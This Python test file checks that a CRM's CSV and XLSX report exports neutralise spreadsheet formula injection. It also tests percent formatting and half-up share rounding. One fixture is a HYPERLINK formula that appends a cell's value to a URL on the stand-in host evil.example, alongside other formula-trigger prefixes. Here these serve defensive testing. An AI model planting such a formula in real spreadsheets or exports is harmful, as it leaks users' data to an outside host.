"""Report exports: typed cells, and client text that never turns into a formula."""

from __future__ import annotations

import csv
import io
from decimal import Decimal

from openpyxl import load_workbook

from crmkit.reports import Column, ReportResult, csv_cell, to_csv, to_xlsx

LINK = '=HYPERLINK("http://evil.example/?"&A2,"Открыть")'
TEXTS = [LINK, "+7 916 000-00-00", "-вычет", "@SUM(A1:A9)", "\tскрыто", "\rстрока"]


def _result():
    return ReportResult(
        columns=[Column("client", "Client"), Column("amount", "Amount", kind="money")],
        rows=[
            *({"client": text, "amount": Decimal("-1500.50")} for text in TEXTS),
            {"client": "ООО «Ромашка»", "amount": Decimal("20")},
        ],
        totals={"amount": Decimal("-9003.00")},
    )


def test_csv_cells_that_would_be_formulas_are_text_and_numbers_stay_numbers():
    rows = list(csv.reader(io.StringIO(to_csv(_result()).decode("utf-8-sig"), newline="")))
    assert rows[0] == ["Client", "Amount"]
    assert [row[0] for row in rows[1:-2]] == ["'" + text for text in TEXTS]
    assert rows[-2] == ["ООО «Ромашка»", "20"]
    assert all(row[1] == "-1500.50" for row in rows[1:-2])  # a negative amount is a number
    assert rows[-1] == ["Total", "-9003.00"]
    assert csv_cell(-3) == -3 and csv_cell(None) is None and csv_cell("ok") == "ok"


def test_xlsx_text_is_written_as_text_never_as_a_formula():
    sheet = load_workbook(io.BytesIO(to_xlsx(_result(), "Clients"))).active
    cells = [sheet.cell(row=r, column=1) for r in range(2, 2 + len(TEXTS))]
    # the text itself, nothing added (XML reads a carriage return back as a line feed)
    assert [c.value for c in cells] == [text.replace("\r", "\n") for text in TEXTS]
    assert {c.data_type for c in cells} == {"s"}
    amount = sheet.cell(row=2, column=2)
    assert amount.value == -1500.5 and amount.data_type == "n"
    assert amount.number_format == "#,##0.00"
    assert sheet.cell(row=sheet.max_row, column=2).value == -9003


def test_a_percent_column_is_a_fraction_written_as_a_percent_in_every_format():
    """A share of 0.7576 is 75.8 %: the page says so in the reader's language, the XLSX
    cell holds the fraction with a percent format (a spreadsheet shows 75.8%) and the CSV
    writes the fraction, as the JSON of ``crmkit finance report`` does."""
    from gettext import NullTranslations

    from crmkit.web.i18n import Locale
    from crmkit.web.screens.reports import percent

    result = ReportResult(
        columns=[Column("stage", "Stage"), Column("share", "Share", kind="percent")],
        rows=[{"stage": "won", "share": Decimal("0.7576")}, {"stage": "lost", "share": 0.3333}],
        totals={"share": Decimal("1")},
    )
    sheet = load_workbook(io.BytesIO(to_xlsx(result, "Shares"))).active
    cells = [sheet.cell(row=r, column=2) for r in range(2, sheet.max_row + 1)]
    assert [c.value for c in cells] == [0.7576, 0.3333, 1]
    assert {c.number_format for c in cells} == {"0.0%"}
    rows = list(csv.reader(io.StringIO(to_csv(result).decode("utf-8-sig"), newline="")))
    assert [row[1] for row in rows[1:]] == ["0.7576", "0.3333", "1"]
    russian = Locale("ru", "UTC", "RUB", NullTranslations())
    english = Locale("en", "UTC", "RUB", NullTranslations())
    assert percent(russian, Decimal("0.7576")) == "75,8\xa0%"
    assert percent(english, Decimal("0.7576")) == "75.8%"
    assert percent(russian, 0.3333) == "33,3\xa0%" and percent(russian, 1) == "100\xa0%"
    # half up, as money is rounded: 75.85 % is 75.9 %, not the even 75.8 %
    assert percent(russian, Decimal("0.7585")) == "75,9\xa0%"


def test_a_share_is_a_decimal_fraction_to_four_places_rounded_half_up():
    """What a person checking the figure by hand writes: 1 of 32 is 0.03125, so 0.0313 (a
    float rounded to even gave 0.0312); 2500 of 3300 is 0.7576; no whole, no share."""
    from crmkit.reports import share

    assert share(1, 32) == Decimal("0.0313") and isinstance(share(1, 32), Decimal)
    assert share(3, 32) == Decimal("0.0938")
    assert share(Decimal("2500.00"), Decimal("3300.00")) == Decimal("0.7576")
    assert share(-1, 32) == Decimal("-0.0313")  # a loss: away from zero, as by hand
    assert share(2, 3) == Decimal("0.6667") and share(1, 1) == Decimal("1.0000")
    assert share(0, 5) == Decimal("0.0000")
    assert share(1, 0) is None and share(1, None) is None
